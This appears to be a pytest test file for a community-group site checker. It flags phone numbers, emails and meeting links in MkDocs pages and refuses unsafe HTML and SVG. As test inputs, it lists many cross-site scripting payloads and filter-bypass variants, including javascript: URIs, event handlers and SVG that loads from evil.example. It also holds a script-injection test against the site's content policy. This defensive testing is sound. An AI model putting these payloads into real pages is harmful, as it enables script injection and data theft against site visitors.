"""Hand-written pages: the messages of the check, and the pages in a browser."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from affinity_hub.checks.handwritten import EXTENSIONS
from affinity_hub.checks.handwritten.markup import clean, refused
from mkdocs.commands.build import build as build_with_mkdocs
from mkdocs.config import load_config
from mkdocs.exceptions import Abort

if TYPE_CHECKING:
    from playwright.sync_api import Browser

    from tests.conftest import Run

pytestmark = pytest.mark.site

ROOT = Path(__file__).resolve().parents[2]
PEOPLE = """\
facilitators:
  - {id: one, role: First host, name: Ada Lovelace, consent: {name: none, given_on: 2026-09-01}}
  - {id: two, role: Second host, name: Ben Agreed, consent: {name: public, given_on: 2026-09-01}}
"""


@pytest.fixture
def page(district: Callable[..., Path], run: Callable[..., Run]) -> Callable[..., list[str]]:
    """Checks a district with one hand-written file, and returns the position and code of each problem."""

    def check(text: str, name: str = "about.md") -> list[str]:
        folder = district(facilitators=PEOPLE)
        shutil.rmtree(folder / "docs", ignore_errors=True)
        (folder / "docs" / name).parent.mkdir(parents=True)
        (folder / "docs" / name).write_text(text, "utf-8")
        lines = run("check", folder).out.splitlines()
        found = [line for line in lines if line.startswith("docs/")]
        return [f"{line.split(': ')[0].removeprefix('docs/')} {line[-5:-1]}" for line in found]

    return check


@pytest.mark.parametrize(
    "text, found",
    [
        ("# About\n\nWelcome. Call 253-555-0142\nor come by.\n", ["about.md:3:15 E512"]),
        ("Call 253-555-\n0142 today.\n", ["about.md:1:6 E512"]),
        ("- one\n- two: jane.poe77@gmail.com\n", ["about.md:2:8 E511"]),
        ("| a | b |\n| - | - |\n| x | https://zoom.us/j/81234567890?pwd=4kT9 |\n", ["about.md:3:7 E510"]),
        ("[x][1]\n\n[1]: https://zoom.us/j/81234567890\n", ["about.md:3:6 E510"]),
        ("```\n253-555-0142\n```\n", ["about.md:2:1 E512"]),
        ("Tea.\n<!-- Call 253-555-0142 -->\n", ["about.md:2:11 E512"]),
        ("---\ndescription: Call 253-555-0142\n---\n# About\n", ["about.md:2:19 E512"]),
        ("---\ntitle: Ask\n# Call 253-555-0142\n---\n# About\n", ["about.md:3:8 E512"]),
        ("Write to tea@elsewhere.org.\n", ["about.md:1:10 E513"]),
        ("Led by Ada\nLovelace since 2020.\n", ["about.md:1:8 E514"]),
        ("Tea with Ben Agreed.\n", []),
        ("Write to affinity@your-district.example or hello@example.com, as in this example.\n", []),
        ("The room is `Room 214`.\n", []),
    ],
)
def test_a_page_is_checked_like_the_data(text: str, found: list[str], page: Callable[..., list[str]]) -> None:
    assert page(text) == found


@pytest.mark.parametrize("name", ["deep/er/page.md", "page.markdown", "notes.txt", "table.csv", "feed.json"])
def test_every_published_text_is_checked(name: str, page: Callable[..., list[str]]) -> None:
    assert page("Tea.\n\nCall 253-555-0142.\n", name) == [f"{name}:3:6 E512"]


@pytest.mark.parametrize("name", ["a.html", "a.HTM", "a.js", "a.xhtml", "a.css", "a.xml", "a", "a.exe", "a.md.bak"])
def test_a_file_that_the_check_cannot_judge_is_refused(name: str, page: Callable[..., list[str]]) -> None:
    assert page("Tea.\n", name) == [f"{name}:1:1 E024"]


@pytest.mark.parametrize("name", [".hidden.html", "photo.jpg", "photo.PNG", ".obsidian/a.js"])
def test_pictures_and_unpublished_files_pass(name: str, page: Callable[..., list[str]]) -> None:
    assert page("Tea.\n", name) == []


# HTML that Markdown and the theme's extensions write.
HARMLESS = (
    "# A *b* {#own .wide}\n\nText[^1] with `<script>` and <kbd>Ctrl</kbd>.\n\n[^1]: Note.\n",
    "```html\n<script>alert(1)</script>\n<img onerror=x>\n```\n",
    "    <script>indented</script>\n",
    "| a | b |\n| :- | -: |\n| 1 | 2 |\n",
    "![Tea](assets/tea.png)\n\n![Tea](../assets/tea.png){width=300}\n",
    "<figure markdown><img src='assets/tea.png' alt='Tea'><figcaption>Tea</figcaption></figure>\n",
    "<details open><summary>More</summary>Text</details>\n",
    "<div class='admonition note' markdown='1'>\n\n**Note** text\n\n</div>\n",
    '- <label class="task-list-control"><input type="checkbox" disabled checked></label> Done\n',
    "[a](https://www.example.org/) [b](mailto:affinity@example.org) [c](editing.md#with-a-form) [d](#x) <https://a.example>\n",
    "1 < 2 and 3 > 2, R&D, AT&amp;T, a&#8211;b, {x} and {{ config.site_name }}\n",
    "Term\n: Not a list\n\n*[HTML]: Hyper\n",
    "---\ntitle: Q&A\ndescription: Five questions.\n---\n# Q&A\n",
)


@pytest.mark.parametrize("text", HARMLESS)
def test_html_that_markdown_writes_stays(text: str, page: Callable[..., list[str]]) -> None:
    assert page(text) == []


@pytest.mark.parametrize(
    "text, found",
    [
        ("Tea.\n\n<script>alert(1)</script>\n", "3:1 E025"),
        ("`<script>` is shown.\n\nTea <SCRIPT src=//evil.example></SCRIPT>\n", "3:5 E025"),
        ("Tea <img src=x onerror=alert(1)>\n", "1:16 E025"),
        ("Tea <svg/onload=alert(1)>\n", "1:5 E025"),
        ("[tea](javascript:alert(1))\n", "1:7 E025"),
        ("[tea](&#106;avascript:alert(1))\n", "1:1 E025"),
        ("Tea.\n\n[tea](javascript&colon;alert(1))\n", "3:1 E025"),
        ("Tea.\n\n[tea](java\tscript:alert(1))\n", "3:1 E025"),
        ("Tea.\n\n[tea](java&Tab;script:alert(1))\n", "3:1 E025"),
        ("[tea](java\tscript:alert(1))\n", None),
        ("<a href='jav&#x09;ascript:alert(1)'>tea</a>\n", "1:1 E025"),
        ("[tea][x]\n\n[x]: data:text/html,hit\n", "3:6 E025"),
        ("<vbscript:alert(1)>\n", None),
        ("# Tea { onclick=alert(1) }\n", "1:9 E025"),
        ("Tea <input type=password>\n", "1:5 E025"),
        ("Tea <input>\n", "1:5 E025"),
        ("<input type='checkbox ' disabled>\n", "1:1 E025"),
        ("# Tea {: style=position:fixed }\n", "1:10 E025"),
        ("<iframe src=https://evil.example></iframe>\n", "1:1 E025"),
        ("<form action=https://evil.example><button>Go</button></form>\n", "1:1 E025"),
        ("<meta http-equiv=refresh content='0;url=https://evil.example'>\n", "1:1 E025"),
        ("<base href=https://evil.example>\n", "1:1 E025"),
        ("<style>* {display: none}</style>\n", "1:1 E025"),
        ("<p style='position:fixed'>Tea</p>\n", "1:4 E025"),
        ("![tea](https://evil.example/pixel.png)\n", "1:8 E025"),
        ("<img src=//evil.example/pixel.png>\n", "1:10 E025"),
        ("# <script>alert(1)</script>\n", "1:3 E025"),
        ("---\ntitle: <img src=x onerror=alert(1)>\n---\n", "2:8 E026"),
        ("---\ntitle: About\ntemplate: own.html\n---\n", "3:1 E026"),
        ("---\nhide: [navigation, '<b>']\n---\n", "2:7 E026"),
        ("---\nhreflang: x\n---\n", "2:1 E026"),
        ("---\ntitle: {{ a }}\n---\n", "2:9 E010"),
        ("---\n- a\n---\n", "2:1 E026"),
        ("---\nsearch: exclude\n---\n", "2:9 E026"),
        ("---\nsearch:\n---\n", "2:8 E026"),
        ("---\nsearch: [exclude]\n---\n", "2:9 E026"),
        ("---\ntitle: [About, this]\n---\n", "2:8 E026"),
        ("---\ntitle:\n---\n", "2:7 E026"),
        ("template: own.html\n\n# About\n", "1:1 E026"),
        ("Note: this line would be lost.\n", "1:1 E026"),
    ],
)
def test_harmful_html_is_refused(text: str, found: str | None, page: Callable[..., list[str]]) -> None:
    answers = page(text)
    assert answers[:1] == ([f"about.md:{found}"] if found else answers[:1])
    if not found:  # Markdown does not make a link of this address
        assert "script:" not in clean(text) or answers or "href" not in clean(text)


def test_drawings_that_run_or_load_are_refused(page: Callable[..., list[str]]) -> None:
    for inside in ("<script>x</script>", '<a xlink:href="javascript:x">', '<g onload="x">', '<image href="//evil/">'):
        assert page(f'<svg xmlns="http://www.w3.org/2000/svg">\n{inside}</svg>', "a.svg")[0].endswith("E025")
    assert page('<svg xmlns="http://www.w3.org/2000/svg"><use href="#a"/><text>Tea</text></svg>', "a.svg") == []


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>\n'


@pytest.mark.parametrize(
    "drawing",
    [
        "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'alert(1)'>]>" + SVG.format(""),
        "<!DOCTYPE svg SYSTEM 'https://evil.example/x.dtd'>" + SVG.format(""),
        "<?xml-stylesheet href='x.xsl'?>" + SVG.format(""),
        SVG.format('<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=x"/>'),
        SVG.format('<h:form xmlns:h="http://www.w3.org/1999/xhtml" action="https://evil.example/"/>'),
        SVG.format('<a href="&#106;avascript:alert(1)"/>'),
        SVG.format('<set attributeName="href" to="javascript:alert(1)"/>'),
        SVG.format('<animate attributeName="href" values="javascript:alert(1)"/>'),
        SVG.format("<style>@import url(https://evil.example/a.css)</style>"),
        SVG.format('<rect style="background:url(https://evil.example/x)"/>'),
        SVG.format('<rect fill="url(https://evil.example/x#y)"/>'),
        SVG.format('<use href="/\\evil.example/x.svg#y"/>'),
        SVG.format('<use xlink:href="data:image/svg+xml,x"/>'),
        SVG.format('<image href="https://evil.example/x.png"/>'),
        SVG.format('<rect onclick="alert(1)"/>'),
        SVG.format("<script>alert(1)</script>"),
        SVG.format("<foreignObject/>"),
        SVG.format("<rect>"),
        "Tea.\n",
    ],
)
def test_a_drawing_that_could_run_or_load_anything_is_refused(drawing: str, page: Callable[..., list[str]]) -> None:
    assert [row for row in page(drawing, "x.svg") if row.endswith("E025")]


def test_an_ordinary_drawing_passes_and_its_words_are_checked(page: Callable[..., list[str]]) -> None:
    shapes = '<defs><linearGradient id="a"/></defs><rect fill="url(#a)" style="fill:url(#a)"/><use href="#a"/>'
    assert page('<?xml version="1.0"?>\n' + SVG.format(f"<title>Tea</title>{shapes}<text>Tea</text>"), "x.svg") == []
    assert [row[-4:] for row in page(SVG.format("<text>Call 253-555-0142.</text>"), "x.svg")] == ["E512"]


@pytest.mark.parametrize(
    "text",
    [
        '[Tea](https://kent.example "Ring 253-555-0199 please")\n',
        '![Cup](a.png "Ring 253-555-0199 please")\n',
        '<span title="Ring 253-555-0199">Tea</span>\n',
        '<img alt="call 253-555-0199" src="a.png">\n',
        "Tea host,253-555-0199\n",
        "Ring/253-555-0199\n",
    ],
)
def test_a_telephone_number_is_found_in_titles_and_after_commas(text: str, page: Callable[..., list[str]]) -> None:
    assert [row for row in page(text) if row.endswith("E512")]


@pytest.mark.parametrize("name", ["253-555-0199.md", "jane.doe@gmail.com.txt"])
def test_the_name_of_a_file_is_checked_because_it_becomes_an_address(name: str, page: Callable[..., list[str]]) -> None:
    assert [row for row in page("Tea.\n", name) if row[-4:] in ("E511", "E512")]


def test_nothing_disappears_without_a_message() -> None:
    """`refused` names everything that `clean` removes from a page."""
    for html in ("<p>a</p><script>b</script>", '<a href="x:y">a</a>', '<p onclick="a">a</p>', '<td style="color:red">'):
        assert refused(html)
    kept = '<td align="right">1</td>'
    assert not refused('<td style="text-align: right;">1</td>')
    assert kept in clean('<table><tbody><tr><td style="text-align: right;">1</td></tr></tbody></table>')


def test_the_check_reads_markdown_as_mkdocs_does() -> None:
    assert set(EXTENSIONS) == set(load_config(str(ROOT / "mkdocs.yml")).markdown_extensions)


def test_the_project_s_own_pages_pass_and_lose_nothing(run: Callable[..., Run]) -> None:
    assert "docs/" not in run("check", ROOT).out


@pytest.mark.parametrize(
    "text", ["Call 253-555-0142.\n", "Tea <b onclick=x>here</b>.\n", "---\ntemplate: x\n---\n# A\n"]
)
def test_plain_mkdocs_refuses_a_page_too(
    text: str, district: Callable[..., Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """This holds even if MkDocs publishes a folder other than the folder beside the data."""
    (tmp_path / "pages").mkdir()
    (tmp_path / "pages" / "about.md").write_text(text, "utf-8")
    site = tmp_path / "site"
    monkeypatch.setenv("AFFINITY_HUB_DATA", str(district()))
    with pytest.raises(Abort) as stopped:
        build_with_mkdocs(load_config(str(ROOT / "mkdocs.yml"), docs_dir=str(tmp_path / "pages"), site_dir=str(site)))
    assert "pages/about.md:" in stopped.value.format_message()
    assert not site.exists()


MENU = "site_name: Hub\nnav:\n  - Home: index.md\n"


@pytest.mark.parametrize(
    "text, found",
    [
        (f'{MENU}  - "Call 253-555-0198": groups/index.md\n', ["mkdocs.yml:4:11 E512"]),
        (f'{MENU}  - "Call 253\\x2d555-0198": groups/index.md\n', ["mkdocs.yml:4:10 E512"]),
        (f"{MENU}  - Tea: https://zoom.us/j/81234567890\n", ["mkdocs.yml:4:10 E510"]),
        (f"{MENU}  - Ada Lovelace: groups/index.md\n", ["mkdocs.yml:4:5 E514"]),
        (f"{MENU}  - Ben Agreed: groups/index.md\n", []),
        ("site_name: Call 253-555-0198\n", ["mkdocs.yml:1:17 E512"]),
        ("copyright: >-\n  jane.poe77@gmail.com\n", ["mkdocs.yml:2:3 E511"]),
        ("extra:\n  social: [{link: 'tel:+12535550198'}]\n", ["mkdocs.yml:2:19 E512"]),
        ("# Call 253-555-0198\nsite_name: Hub\n", ["mkdocs.yml:1:8 E512"]),
        ("extra:\n  data: !ENV [AFFINITY_HUB_DATA, .]\n", []),
        ("site_name: [\n", []),
    ],
)
def test_the_settings_of_the_site_are_checked(
    text: str, found: list[str], district: Callable[..., Path], run: Callable[..., Run]
) -> None:
    folder = district(facilitators=PEOPLE)
    (folder / "mkdocs.yml").write_text(text, "utf-8")
    lines = [line for line in run("check", folder).out.splitlines() if line.startswith("mkdocs.yml")]
    assert [f"{line.split(': ')[0]} {line[-5:-1]}" for line in lines] == found


@pytest.mark.parametrize(
    "menu",
    [
        [{"Call 253-555-0198": "groups/index.md"}],
        [{"Groups": [{"Call 253-555-0198": "groups/index.md"}]}],
        [{"Tea": "https://zoom.us/j/81234567890"}],
    ],
)
def test_plain_mkdocs_refuses_a_menu_too(
    menu: list[Any], district: Callable[..., Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """This holds even if the words of the menu come from another file."""
    site = tmp_path / "site"
    monkeypatch.setenv("AFFINITY_HUB_DATA", str(district()))
    with pytest.raises(Abort) as stopped:
        build_with_mkdocs(load_config(str(ROOT / "mkdocs.yml"), nav=menu, site_dir=str(site)))
    assert "mkdocs.yml:1:" in stopped.value.format_message()
    assert not site.exists()


def test_a_page_outside_the_menu_is_published_and_the_build_says_how_to_add_it(
    district: Callable[..., Path], tmp_path: Path, program: Callable[..., Any]
) -> None:
    pages, site = tmp_path / "pages", tmp_path / "site"
    shutil.copytree(ROOT / "docs", pages, ignore=shutil.ignore_patterns("screenshots"))
    (pages / "rooms.md").write_text("# Where we meet\n\nIn the library.\n", "utf-8")
    config = tmp_path / "mkdocs.yml"
    text = (ROOT / "mkdocs.yml").read_text("utf-8").replace("docs_dir: docs", f"docs_dir: {pages}")
    config.write_text(text.replace("  - hooks/", f"  - {ROOT}/hooks/").replace("overrides", f"{ROOT}/overrides"))
    command = ("-m", "mkdocs", "build", "--strict", "--config-file", config, "--site-dir", site)
    done = program(*command, AFFINITY_HUB_DATA=str(district()))
    assert done.returncode == 0, done.stderr
    assert (site / "rooms" / "index.html").is_file()
    assert "docs/rooms.md is published, but it is not in the menu." in done.stderr
    assert "under `nav:` in mkdocs.yml:  - Rooms: rooms.md\n" in done.stderr
    assert done.stderr.count("is not in the menu") == 1


LINKS: dict[str, Callable[[Path, Path], None]] = {
    "events.yml": lambda path, other: path.symlink_to(other / "x.yml"),
    "groups/more.yml": lambda path, other: path.symlink_to(other / "x.yml"),
    "groups/nowhere.yml": lambda path, other: path.symlink_to("nowhere"),
    "events/": lambda path, other: path.symlink_to(other),
    "docs/": lambda path, other: path.symlink_to(other),
    "docs/deep/about.md": lambda path, other: path.symlink_to(other / "x.yml"),
    "docs/deep/": lambda path, other: path.symlink_to(other),
    "hub.yml": lambda path, other: path.symlink_to(other / "x.yml"),
    "library.yml": lambda path, other: path.symlink_to("nowhere"),
    "embed-contract.json": lambda path, other: path.symlink_to(other / "x.yml"),
}


BUILD = ("build", "--out", "site")


@pytest.mark.parametrize(
    "name, commands",
    [
        *((name, (("check",), ("feeds", "--out", "feeds"))) for name in LINKS),
        ("docs/deep/", (BUILD,)),
        *(pytest.param(name, (BUILD,), marks=pytest.mark.long) for name in LINKS if name != "docs/deep/"),
    ],
)
def test_nothing_is_read_through_a_symbolic_link(
    name: str,
    commands: tuple[tuple[str, ...], ...],
    district: Callable[..., Path],
    tmp_path: Path,
    run: Callable[..., Run],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    other = tmp_path / "other"
    other.mkdir()
    (other / "x.yml").write_text("root:x:0:0: SECRET\n", "utf-8")
    path = district() / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    LINKS[name](path, other)
    for command in commands:
        done = run(command[0], tmp_path / "district", *command[1:])
        assert done.status == 1
        assert f"{name.rstrip('/')}:1:1: error: {name.rstrip('/')} is a symbolic link" in done.out + done.err
        assert "SECRET" not in done.out + done.err
    assert not (tmp_path / "site").exists()


def test_other_links_are_allowed(district: Callable[..., Path], tmp_path: Path, run: Callable[..., Run]) -> None:
    folder = district()
    (folder / ".venv").symlink_to(tmp_path)
    (folder / "notes.txt").symlink_to("nowhere")
    (tmp_path / "linked").symlink_to(folder)
    assert run("check", tmp_path / "linked").status == 0


@pytest.mark.parametrize("name", ["con", "prn", "aux", "nul", "com0", "com1", "com9", "lpt0", "lpt9"])
def test_ids_that_windows_cannot_store_are_refused(
    name: str, district: Callable[..., Path], run: Callable[..., Run]
) -> None:
    groups = "groups: [{{id: {}, was: [{}], name: Tea, kind: affinity, summary: Tea., open_to: All staff.}}]"
    events = "events: []"
    for text in (groups.format(name, "old-tea"), groups.format("new-tea", name)):
        assert "[E109]" in run("check", district(groups=text, events=events)).out
    fine = groups.format(f"{name}-group", f"{name}10")
    assert run("check", district(groups=fine, events=events)).status == 0


def test_each_page_has_its_policy_before_everything_that_the_policy_controls(site: Path) -> None:
    for path in sorted(site.rglob("*.html")):
        text = path.read_text("utf-8")
        assert text.count('<meta http-equiv="Content-Security-Policy"') == 1, path
        head = text[: text.index('<meta http-equiv="Content-Security-Policy"')]
        assert not any(tag in head for tag in ("<script", "<link", "<style", "<base")), path


@pytest.mark.browser
@pytest.mark.long
def test_no_page_breaks_its_own_policy(
    demo_site: Path, real_site: Path, serve: Callable[[Path], str], browser: Browser
) -> None:
    """Serves the site without headers, like GitHub Pages. Covers every kind of page, with frames and redirects."""
    for site in (demo_site, real_site):
        kinds: dict[str, str] = {}
        for path in sorted(site.rglob("*.html")):
            where = path.relative_to(site).as_posix()
            kinds.setdefault(
                "/".join(where.split("/")[:3] if where.startswith("embed/") else where.split("/")[:1]), where
            )
        page: Any = browser.new_page()
        page.add_init_script(
            "window.broken = []; addEventListener('securitypolicyviolation', "
            "event => broken.push(`${event.violatedDirective} ${event.blockedURI}`))"
        )
        said: list[str] = []
        page.on("console", lambda message, said=said: said.append(message.text) if message.type == "error" else None)
        for where in kinds.values():
            page.goto(serve(site) + where)
            assert (page.evaluate("broken"), [text for text in said if "ontent" in text and "olicy" in text]) == (
                [],
                [],
            ), where
        page.goto(serve(site))
        page.get_by_role("banner").get_by_role("button", name="Search").click()
        page.keyboard.type("group")
        page.locator(".hub-search a").first.wait_for()
        assert page.evaluate("broken") == []
        page.close()


@pytest.mark.browser
def test_the_policy_of_a_page_blocks_scripts_that_are_written_into_it(
    demo_site: Path, tmp_path: Path, serve: Callable[[Path], str], browser: Browser
) -> None:
    """The policy in the page is a second safeguard after the allow-list. The server sends no headers."""
    site = Path(shutil.copytree(demo_site, tmp_path / "site"))
    for where in ("about/index.html", "embed/light/next/index.html", "404.html", "groups/index.html"):
        path = site / where
        attack = "<script>document.title='hit'</script><img src=x onerror=\"document.title='hit'\"></body>"
        path.write_text(path.read_text("utf-8").replace("</body>", attack), "utf-8")
        page = browser.new_page()
        page.goto(serve(site) + where)
        page.wait_for_load_state("networkidle")
        assert page.title() != "hit", where
        page.close()
